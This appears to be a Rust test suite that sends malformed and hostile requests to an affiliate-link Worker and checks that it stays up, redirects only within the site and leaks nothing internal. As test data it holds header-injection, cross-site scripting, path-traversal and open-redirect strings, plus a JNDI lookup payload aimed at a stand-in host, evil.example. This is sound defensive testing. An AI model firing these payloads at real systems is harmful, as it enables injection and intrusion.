//! Requests meant to break something. None may, and the Worker still answers afterwards.

use serde_json::json;

use crate::support::{Visitor, Worker, World, link, sends_raw};

fn status(answer: &str) -> u16 {
    answer.split(' ').nth(1).and_then(|status| status.parse().ok()).unwrap_or(0)
}

#[test]
fn junk_in_the_address_never_becomes_an_error_of_ours() {
    let world = World::shared();
    let host = world.worker.site_host();
    let code = link().code;
    let targets = [
        format!("/p?ref={}", "A".repeat(10_000)),
        format!("/p?{}", "ref=x&".repeat(2_000)),
        format!("/{}?ref={code}", "%FF%00%0d%0a".repeat(500)),
        "/p?ref=%0d%0aSet-Cookie:%20a=b".into(),
        "/p?ref=\u{202e}\u{0}é😀".into(),
        "/p?ref=<script>alert(1)</script>".into(),
        "/p?ref=..%2f..%2fetc".into(),
        "/p?aff_click=%00&ref=".into(),
        "/p?&&&&=&=&ref&ref=&".into(),
        "//evil.example/?ref=x".into(),
        "/\\evil.example/?ref=x".into(),
        "/_tributary/../x".into(),
        "/_tributary/links".into(),
    ];
    for target in targets {
        let answer = sends_raw(&host, &format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Firefox\r\n\r\n"));
        let start = target.chars().take(40).collect::<String>();
        assert!((200..500).contains(&status(&answer)), "{start}: {answer}");
        let headers = answer.split("\r\n\r\n").next().unwrap_or_default();
        assert!(!headers.to_lowercase().contains("set-cookie"), "{start}: {answer}");
    }
    assert_eq!(Visitor::new().gets(&world.worker.site("/_tributary/health")).status, 200);
}

#[test]
fn no_path_turns_a_redirect_away_from_the_site() {
    let world = World::shared();
    let link = link();
    world.ledger.knows(&link);
    let host = world.worker.site_host();
    for path in [
        "//evil.example/x",
        "/\\evil.example/x",
        "//evil.example",
        "/%2f/evil.example",
        "/.//evil.example",
        "/\u{1}\u{7f}/x",
        "/\u{e9}\u{1f600}\u{202e}",
    ] {
        let target = format!("{path}?ref={}", link.code);
        let request = format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 Firefox/140.0\r\n\r\n");
        let answer = sends_raw(&host, &request);
        let location = answer.lines().find_map(|line| line.strip_prefix("Location: ")).unwrap_or_default();
        let own = location.starts_with(&format!("http://{host}/"));
        let relative = location.starts_with('/') && !location.starts_with("//") && !location.starts_with("/\\");
        assert!(status(&answer) == 302 && (own || relative), "{path}: {answer}");
    }
}

#[test]
fn oversized_and_broken_cookies_cost_nothing_but_themselves() {
    let world = World::shared();
    let link = link();
    world.ledger.knows(&link);
    let url = world.worker.site(&format!("/p?ref={}", link.code));
    let cookies = [
        format!("aff_ref={}; aff_vid={}", "A".repeat(6_000), "b".repeat(6_000)),
        "aff_vid=<x>; ".repeat(300),
        ";;;=;aff_ref;aff_vid=\"; =x".to_owned(),
    ];
    for cookie in &cookies {
        let reply = Visitor::new().with("cookie", cookie.as_str()).gets(&url);
        assert_eq!((reply.status, reply.set_cookies().len()), (302, 2));
        assert!(reply.cookie("aff_vid").is_some_and(|id| id.len() == 32));
    }
    world.ledger.awaits_clicks(link.link_id, cookies.len());
}

#[test]
fn absurd_methods_are_answered_without_a_click() {
    let world = World::shared();
    let link = link();
    world.ledger.knows(&link);
    let host = world.worker.site_host();
    for method in ["BREW", "PROPFIND", "get", "TRACE", "A", &"X".repeat(300)] {
        let target = format!("/p?ref={}", link.code);
        let answer =
            sends_raw(&host, &format!("{method} {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n"));
        assert!(!answer.contains("aff_ref"), "{method}: {answer}");
    }
    world.ledger.awaits_clicks(link.link_id, 0);
    assert_eq!(Visitor::new().gets(&world.worker.site("/_tributary/health")).status, 200);
}

#[test]
fn long_headers_are_cut_and_the_click_arrives() {
    let world = World::shared();
    let link = link();
    world.ledger.knows(&link);
    let visitor = Visitor::new()
        .with("referer", format!("https://blog.example/{}", "ä".repeat(3_000)))
        .with("user-agent", format!("Mozilla/5.0 {}", "\u{e9}".repeat(2_000)));
    let reply = visitor.gets(&world.worker.site(&format!("/p?ref={}&utm_campaign={}", link.code, "u".repeat(5_000))));
    assert_eq!(reply.status, 302);
    let click = &world.ledger.awaits_clicks(link.link_id, 1)[0];
    assert!(click.landing_page.len() <= 1_024 && click.referer.as_ref().is_some_and(|referer| referer.len() <= 1_024));
    assert!(click.user_agent.as_ref().is_some_and(|agent| agent.len() <= 512));
}

/// Keys as the Worker's KV holds them.
fn kv_key(worker: &Worker, name: &str) -> String {
    format!("link:{}:{name}", worker.site_host())
}

#[test]
fn junk_in_kv_counts_as_nothing_and_the_ledger_is_asked() {
    let mut world = World::start();
    let record = link();
    let good = serde_json::to_value(&record).unwrap();
    let mut codes = Vec::new();
    for junk in [
        String::new(),
        "no record".to_owned(),
        "null".to_owned(),
        "[]".to_owned(),
        "{".to_owned(),
        "\u{0}\u{ffff}".to_owned(),
        "9".repeat(10_000),
        json!({ "link_id": "x" }).to_string(),
        good.to_string().replace("\"window_days\":30", "\"window_days\":99999"),
        good.to_string().replace("last_click", "no_click"),
        good.to_string().replace("\"version\":1", "\"version\":1e300"),
        good.to_string().replace("\"mode\":\"implied\"", "\"mode\":\"required\""),
    ] {
        let known = link();
        world.ledger.knows(&known);
        let unknown = link();
        for code in [&known.code, &unknown.code] {
            world.worker.suffers(&json!({ "kv": { (kv_key(&world.worker, code)): junk } }));
        }
        codes.push((junk, known.code, unknown.code));
    }
    for (junk, known, unknown) in codes {
        let start: String = junk.chars().take(60).collect();
        let reply = Visitor::new().gets(&world.worker.site(&format!("/p?ref={known}")));
        assert_eq!((reply.status, reply.set_cookies().len()), (302, 2), "{start}");
        let page = Visitor::new().gets(&world.worker.site(&format!("/p?ref={unknown}")));
        assert!(page.origin().is_some() && page.set_cookies().is_empty(), "{start}");
    }
}

#[test]
fn foreign_messages_in_the_queue_hold_up_nothing() {
    let mut world = World::start();
    let link = link();
    world.ledger.knows(&link);
    let url = world.worker.site(&format!("/p?ref={}", link.code));
    for body in [
        json!({ "body": "", "contentType": "text" }),
        json!({ "body": "not ours", "contentType": "text" }),
        json!({ "body": "{\"isolate_id\":\"x\",\"seq\":1,\"clicks\":[]}", "contentType": "text" }),
        json!({ "body": format!("{{\"isolate_id\":\"{}\",\"seq\":-1,\"clicks\":[]}}", link.link_id), "contentType": "text" }),
        json!({ "body": "[".repeat(50_000), "contentType": "text" }),
        json!({ "body": [1, 2, { "a": null }], "contentType": "json" }),
        json!({ "body": { "isolate_id": link.link_id, "seq": 1, "clicks": [] }, "contentType": "json" }),
        json!({ "body": { "nested": [] }, "contentType": "v8" }),
        json!({ "body": null, "contentType": "v8" }),
    ] {
        world.worker.suffers(&json!({ "queue": body }));
        assert_eq!(Visitor::new().gets(&url).status, 302);
    }
    // Only a batch number that is one reaches the ledger, and every click does.
    world.ledger.awaits_clicks(link.link_id, 9);
    let numbers = world.ledger.sequences();
    assert!(numbers.values().all(|numbers| numbers.iter().all(|number| *number >= 1)), "{numbers:?}");
    assert_eq!(numbers.len(), 1, "one isolate, and none of the foreign ones");
}

#[test]
fn a_batch_that_the_ledger_cannot_read_holds_up_no_other() {
    let mut world = World::start();
    let link = link();
    world.ledger.knows(&link);
    let url = world.worker.site(&format!("/p?ref={}", link.code));
    // A batch by its outside, as a Worker newer than the ledger may send it.
    let newer = json!({ "isolate_id": link.link_id, "seq": 1, "clicks": [{ "colour": "red" }] }).to_string();
    for _ in 0..3 {
        world.worker.suffers(&json!({ "queue": { "body": newer, "contentType": "text" } }));
        assert_eq!(Visitor::new().gets(&url).status, 302);
    }
    world.ledger.awaits_clicks(link.link_id, 3);
}

#[test]
fn junk_on_a_link_domain_never_becomes_an_error_or_another_address() {
    let world = World::shared();
    let code = link().code;
    let host = world.worker.site_host().replace("127.0.0.1", "localhost");
    for target in [
        format!("/{}", "A".repeat(10_000)),
        format!("/{}", "%41".repeat(3_000)),
        format!("//evil.example/{code}"),
        format!("/\\evil.example/{code}"),
        format!("/%2f%2fevil.example/{code}"),
        format!("/{code}%0d%0aLocation:%20https://evil.example/"),
        format!("/{code}/../../{code}"),
        "/\u{202e}ABC12345".into(),
        "/%00".into(),
        "/?ref=ABC12345&ref=ABC12345".into(),
        "/_tributary/clicks?ref=%0d%0a".into(),
    ] {
        let answer = sends_raw(&host, &format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Firefox\r\n\r\n"));
        let start: String = target.chars().take(40).collect();
        assert!((200..500).contains(&status(&answer)), "{start}: {answer}");
        let head = answer.split("\r\n\r\n").next().unwrap_or_default().to_lowercase();
        assert!(!head.contains("\r\nlocation: ") && !head.contains("set-cookie"), "{start}: {answer}");
    }
}

#[test]
fn headers_meant_to_break_out_stay_where_they_are() {
    let world = World::shared();
    let link = link();
    world.ledger.knows(&link);
    let host = world.worker.site_host();
    let head =
        format!("GET /p?ref={} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 Firefox/140.0\r\n", link.code);
    for header in [
        "Cookie: aff_vid=0123456789abcdef0123456789abcdef\u{0}; a=b",
        "Cookie: aff_ref=x\tSet-Cookie: evil=1",
        "Referer: https://x.example/\u{1}\u{7f}",
        "CF-Connecting-IP: 1.2.3.4, 5.6.7.8\tX: y",
        "CF-IPCountry: \u{ff}\u{fe}",
        "Accept-Language: ${jndi:ldap://evil.example}",
    ] {
        let answer = sends_raw(&host, &format!("{head}{header}\r\n\r\n"));
        // A server may refuse such a header before the Worker sees it.
        assert!(matches!(status(&answer), 302 | 400), "{header:?}: {answer}");
        assert!(!answer.contains("evil"), "{header:?}: {answer}");
    }
    assert_eq!(Visitor::new().gets(&world.worker.site("/_tributary/health")).status, 200);
}

#[test]
fn what_visitors_get_says_nothing_of_the_inside() {
    let world = World::shared();
    let link = link();
    world.ledger.knows(&link);
    let sent = |name: &str| {
        let ours = ["location", "cache-control", "set-cookie", "content-type", "content-length", "vary", "allow"];
        ours.contains(&name) || ["date", "connection", "transfer-encoding", "server"].contains(&name)
    };
    for (method, url) in [
        ("GET", world.worker.site(&format!("/p?ref={}", link.code))),
        ("GET", world.worker.link(&format!("/{}", link.code))),
        ("GET", world.worker.link("/no-such-link")),
        ("POST", world.worker.link("/no-such-link")),
        ("POST", world.worker.site("/_tributary/clicks?ref=x")),
        ("GET", world.worker.site("/_tributary/links")),
        ("PUT", world.worker.site("/_tributary/links")),
        ("GET", world.worker.site("/_tributary/health")),
    ] {
        let reply = Visitor::new().sends(method, &url, Vec::new());
        let more: Vec<_> = reply.headers.iter().filter(|(name, _)| !sent(name)).collect();
        assert!(more.is_empty(), "{method} {url}: {more:?}");
        assert_eq!(reply.header("cache-control"), Some("no-store"), "{method} {url}");
        let body = String::from_utf8_lossy(&reply.body).to_lowercase();
        for word in ["panic", "wasm", "rust", "ledger", "stack", "at /", ".rs"] {
            assert!(!body.contains(word), "{method} {url}: {body}");
        }
    }
}
